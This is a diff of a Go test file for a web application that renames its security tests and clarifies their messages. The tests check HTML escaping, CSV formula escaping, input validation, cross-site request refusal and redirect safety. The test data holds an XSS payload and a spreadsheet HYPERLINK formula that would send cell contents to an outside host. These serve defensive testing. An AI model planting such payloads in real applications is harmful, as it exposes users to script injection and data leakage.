@@ -14,14 +14,14 @@ import (
 	"stockroom/store/storetest"
 )
 
-// evil is what somebody would store to run a script in a colleague's browser;
-// sum is what they would store for a colleague's spreadsheet.
+// evil is text that would run a script in a browser if it were not escaped.
+// formula is text that a spreadsheet would calculate.
 const (
-	evil = `"><script>alert(1)</script><img src=x onerror=alert(1)>'`
-	sum  = `=HYPERLINK("http://example.com?"&A1)`
+	evil    = `"><script>alert(1)</script><img src=x onerror=alert(1)>'`
+	formula = `=HYPERLINK("http://example.com?"&A1)`
 )
 
-// hostile are things with such text wherever the table takes text.
+// hostile returns entities that have the text in every text attribute.
 func hostile(text string) []store.Entity {
 	address := store.Address{Country: text, County: text, City: text, Street: text, Number: text, ZipCode: text}
 	day := storetest.Now.AddDate(0, 0, -1)
@@ -41,7 +41,7 @@ func hostile(text string) []store.Entity {
 	}
 }
 
-// hostilePaths are all pages that show one of them, and the lists they lie in.
+// hostilePaths returns the pages and lists that show these entities.
 func hostilePaths(id string) []string {
 	id = url.PathEscape(id)
 	return []string{
@@ -57,8 +57,8 @@ func hostilePaths(id string) []string {
 	}
 }
 
-func TestStoredTextIsText(t *testing.T) {
-	b := open(t, append(hostile(evil), hostile(sum)...)...)
+func TestPages_EscapeStoredText(t *testing.T) {
+	b := open(t, append(hostile(evil), hostile(formula)...)...)
 	user := store.User{Name: evil, Role: store.Admin}
 	if err := b.store.AddUser(t.Context(), user, password, "test"); err != nil {
 		t.Fatal(err)
@@ -67,18 +67,17 @@ func TestStoredTextIsText(t *testing.T) {
 	for _, path := range hostilePaths(evil) {
 		page := browser.get(path)
 		if page.status >= http.StatusInternalServerError {
-			t.Errorf("%s is %d: %s", path, page.status, page.body)
+			t.Errorf("%s: got status %d, want less than 500: %s", path, page.status, page.body)
 		}
-		if found := running(page.body); found != "" {
-			t.Errorf("%s runs %s", path, found)
+		if found := executable(page.body); found != "" {
+			t.Errorf("%s: got %s, want nothing that runs", path, found)
 		}
 	}
 }
 
-// running is the first thing in a page that would run: a script that is not
-// the site's own, a picture that nobody asked for, an attribute that is a
-// script.
-func running(page string) string {
+// executable returns the first tag of a page that would run a script or load an
+// image: a foreign script, an image, an event handler or a javascript: URL.
+func executable(page string) string {
 	z := html.NewTokenizer(strings.NewReader(page))
 	for {
 		switch z.Next() {
@@ -100,18 +99,18 @@ func running(page string) string {
 	}
 }
 
-func TestFilesCalculateNothing(t *testing.T) {
-	b := open(t, hostile(sum)...)
+func TestCSV_EscapesFormulas(t *testing.T) {
+	b := open(t, hostile(formula)...)
 	browser := b.as(t, "admin")
-	seen := 0
-	for _, path := range hostilePaths(sum) {
+	formulas := 0
+	for _, path := range hostilePaths(formula) {
 		path, query, _ := strings.Cut(path, "?")
 		file := browser.get(path + ".csv?" + query)
 		if file.status != http.StatusOK {
 			continue
 		}
 		if kind := file.header.Get("Content-Type"); !strings.HasPrefix(kind, "text/csv") || file.header.Get("X-Content-Type-Options") != "nosniff" {
-			t.Errorf("%s.csv is %s", path, kind)
+			t.Errorf("%s.csv: got Content-Type %s, want text/csv and nosniff", path, kind)
 		}
 		for rows := csv.NewReader(strings.NewReader(file.body)); ; {
 			row, err := rows.Read()
@@ -123,26 +122,26 @@ func TestFilesCalculateNothing(t *testing.T) {
 			}
 			for _, cell := range row {
 				if cell != "" && strings.Contains("=+-@\t\r\x00", cell[:1]) {
-					t.Errorf("%s.csv has the cell %q", path, cell)
+					t.Errorf("%s.csv: got the cell %q, want no formula", path, cell)
 				}
 				if strings.Contains(cell, "HYPERLINK") {
-					seen++
+					formulas++
 				}
 			}
 		}
 	}
-	if seen < 50 {
-		t.Errorf("only %d cells hold what was stored", seen)
+	if formulas < 50 {
+		t.Errorf("got the stored text in %d cells, want at least 50", formulas)
 	}
 }
 
-func TestWrongInputIsRefusedWithTheFormKept(t *testing.T) {
+func TestPages_RejectInvalidQueries(t *testing.T) {
 	b := open(t)
 	browser := b.as(t, "viewer")
 	for _, tt := range []struct {
 		path   string
 		status int
-		kept   string // what was typed, as the page has it again
+		want   string // on the page, such as the input
 	}{
 		{"/orders?from=soon&to=2026-11-01", 422, `value="soon"`},
 		{"/orders?from=soon&to=2026-11-01", 422, `value="2026-11-01"`},
@@ -185,13 +184,13 @@ func TestWrongInputIsRefusedWithTheFormKept(t *testing.T) {
 		{"/search?q=%23", 200, ""},
 	} {
 		got := browser.get(tt.path)
-		if got.status != tt.status || !strings.Contains(got.body, tt.kept) {
-			t.Errorf("%.60s is %d, want %d with %q:\n%s", tt.path, got.status, tt.status, tt.kept, content(got.body))
+		if got.status != tt.status || !strings.Contains(got.body, tt.want) {
+			t.Errorf("%.60s: got status %d, want %d and %q in\n%s", tt.path, got.status, tt.status, tt.want, content(got.body))
 		}
 	}
 }
 
-func TestFormsTakeTheirOwnFieldsOnly(t *testing.T) {
+func TestForms_RejectUnknownFields(t *testing.T) {
 	b := open(t)
 	const forms = "application/x-www-form-urlencoded"
 	for _, tt := range []struct {
@@ -216,16 +215,16 @@ func TestFormsTakeTheirOwnFieldsOnly(t *testing.T) {
 		r := browser.request(http.MethodPost, tt.path, tt.body)
 		r.Header.Set("Content-Type", tt.kind)
 		if got := browser.do(r); got.status != tt.status {
-			t.Errorf("POST %s as %s, %.40q, is %d, want %d", tt.path, tt.kind, tt.body, got.status, tt.status)
+			t.Errorf("POST %s as %s, %.40q: got status %d, want %d", tt.path, tt.kind, tt.body, got.status, tt.status)
 		}
 	}
 }
 
-func TestOtherSitesChangeNothing(t *testing.T) {
+func TestForms_RejectCrossSiteRequests(t *testing.T) {
 	b := open(t)
 	for name, headers := range map[string]map[string]string{
 		"another site":      {"Sec-Fetch-Site": "cross-site"},
-		"a sister site":     {"Sec-Fetch-Site": "same-site"},
+		"another subdomain": {"Sec-Fetch-Site": "same-site"},
 		"a foreign origin":  {"Origin": "https://example.com"},
 		"an unknown origin": {"Origin": "null"},
 	} {
@@ -239,13 +238,13 @@ func TestOtherSitesChangeNothing(t *testing.T) {
 				r.Header.Set(name, value)
 			}
 			if got := browser.do(r); got.status != http.StatusForbidden || got.header.Get("Set-Cookie") != "" {
-				t.Errorf("POST %s from %s is %d", row.path, name, got.status)
+				t.Errorf("POST %s from %s: got status %d or a cookie, want 403 and none", row.path, name, got.status)
 			}
 		}
 	}
 }
 
-func TestRedirectsStayHere(t *testing.T) {
+func TestRedirects_StayOnThisSite(t *testing.T) {
 	b := open(t)
 	for next, want := range map[string]string{
 		"/orders?status=PAID": "/orders?status=PAID", "": "/", "orders": "/",
@@ -254,7 +253,7 @@ func TestRedirectsStayHere(t *testing.T) {
 		browser := b.browser(t)
 		form := url.Values{"username": {"viewer"}, "password": {password}}
 		if got := browser.post("/login?next="+url.QueryEscape(next), form); got.status != http.StatusSeeOther || got.location != want {
-			t.Errorf("logging in on the way to %q leads to %q, want %q", next, got.location, want)
+			t.Errorf("sign-in with next %q: got redirect to %q, want %q", next, got.location, want)
 		}
 	}
 	browser := b.as(t, "viewer")
@@ -265,10 +264,10 @@ func TestRedirectsStayHere(t *testing.T) {
 		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
 		r.Header.Set("Referer", from)
 		if got := browser.do(r); got.location != want {
-			t.Errorf("choosing a theme on %q leads to %q, want %q", from, got.location, want)
+			t.Errorf("theme chosen on %q: got redirect to %q, want %q", from, got.location, want)
 		}
 	}
 	if got := b.browser(t).get("/orders?status=PAID"); got.location != "/login?next=%2Forders%3Fstatus%3DPAID" {
-		t.Errorf("nobody is sent to %s", got.location)
+		t.Errorf("anonymous user: got redirect to %s, want the sign-in page", got.location)
 	}
 }
